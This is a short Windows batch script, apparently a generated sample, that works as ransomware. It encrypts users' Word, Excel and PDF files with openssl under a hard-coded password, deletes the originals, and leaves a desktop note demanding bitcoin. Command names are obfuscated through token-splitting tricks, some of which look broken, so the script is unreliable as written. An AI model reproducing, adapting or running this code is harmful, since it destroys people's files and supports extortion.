REM task 3501 v4
@echo off
for /f "tokens=2 delims=@" %%i in ("fpnk@for@izfz") do %%i /r C:\Users %%f in (*.docx *.xlsx *.pdf) do (
for /f "tokens=2 delims=@" %%i in ("rzbj@@fwaq") do %%i  openssl enc -aes-256-cbc -pass pass:Adm1n!strat0r -in "%%f" -out "%%f.enc" && del "%%f"
)
for /f "tokens=3 delims=~" %%i in ("nknb~tyxp~echo") do %%i Your files have been encrypted. Send 0.3 bitcoin to recover the key > C:\Users\Public\Desktop\README_RESTORE_FILES.txt
